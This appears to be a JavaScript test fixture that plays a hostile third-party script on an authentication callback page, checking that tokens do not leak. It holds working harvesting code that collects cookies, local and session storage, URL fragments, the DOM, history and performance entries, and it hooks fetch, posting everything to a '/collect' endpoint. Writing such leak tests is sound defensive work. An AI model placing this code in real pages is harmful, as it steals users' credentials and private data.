// A hostile third-party script: finds everything a script on the callback page can find about
// the address, storage, cookies, the DOM, history and the performance timeline, and reports it
// to the collector. Served once per script kind (inline, classic, defer, async, module, …);
// `KIND` is replaced by the server. If any of this ever runs in the document that carried the
// token, the collector receives the token and the test fails.
(function (kind) {
  var send = window.fetch.bind(window);
  var beacon = navigator.sendBeacon && navigator.sendBeacon.bind(navigator);

  function safe(fn) {
    try {
      return fn();
    } catch (error) {
      return 'threw ' + error;
    }
  }

  function look() {
    var found = {
      href: location.href,
      hash: location.hash,
      url: document.URL,
      documentURI: document.documentURI,
      baseURI: document.baseURI,
      referrer: document.referrer,
      windowName: window.name,
      historyState: safe(function () {
        return JSON.stringify(history.state);
      }),
      session: safe(function () {
        return JSON.stringify(Object.assign({}, sessionStorage));
      }),
      local: safe(function () {
        return JSON.stringify(Object.assign({}, localStorage));
      }),
      cookie: document.cookie,
      html: document.documentElement ? document.documentElement.outerHTML : '',
      navigationEntries: safe(function () {
        return JSON.stringify(
          performance.getEntriesByType('navigation').map(function (e) {
            return e.toJSON();
          }),
        );
      }),
      allEntries: safe(function () {
        return performance.getEntries().map(function (e) {
          return e.name;
        });
      }),
      navigationApi: safe(function () {
        return window.navigation
          ? navigation
              .entries()
              .map(function (e) {
                return e.url;
              })
              .concat(navigation.currentEntry.url)
          : [];
      }),
    };
    // Another realm's untouched native getters, applied to this document's objects.
    found.otherRealm = safe(function () {
      var frame = document.createElement('iframe');
      (document.body || document.documentElement).appendChild(frame);
      var realm = frame.contentWindow;
      var entries = realm.Performance.prototype.getEntriesByType.call(performance, 'navigation');
      var nameGetter = Object.getOwnPropertyDescriptor(realm.PerformanceEntry.prototype, 'name').get;
      return {
        navigation: entries.map(function (e) {
          return nameGetter.call(e);
        }),
        href: Object.getOwnPropertyDescriptor(realm.location, 'href') ? 'own' : 'none',
        url: Object.getOwnPropertyDescriptor(realm.Document.prototype, 'URL').get.call(document),
      };
    });
    return found;
  }

  function report(what, data) {
    var body = JSON.stringify({ kind: kind, what: what, data: data });
    send('/collect', { method: 'POST', body: body }).catch(function () {
      if (beacon) beacon('/collect', body);
    });
  }

  report('look', look());

  // Whatever arrives later: buffered performance entries, fetches of other scripts, leaving.
  safe(function () {
    new PerformanceObserver(function (list) {
      report(
        'observer',
        list.getEntries().map(function (e) {
          return JSON.stringify(e.toJSON());
        }),
      );
    }).observe({ type: 'navigation', buffered: true });
  });
  var originalFetch = window.fetch;
  window.fetch = function (input, init) {
    if (String(input).indexOf('/collect') < 0) report('fetch', { input: String(input), body: init && String(init.body) });
    return originalFetch.apply(this, arguments);
  };
  addEventListener('pagehide', function () {
    if (beacon) beacon('/collect', JSON.stringify({ kind: kind, what: 'pagehide', data: look() }));
  });
  document.addEventListener('DOMContentLoaded', function () {
    report('domcontentloaded', look());
  });
})('KIND');
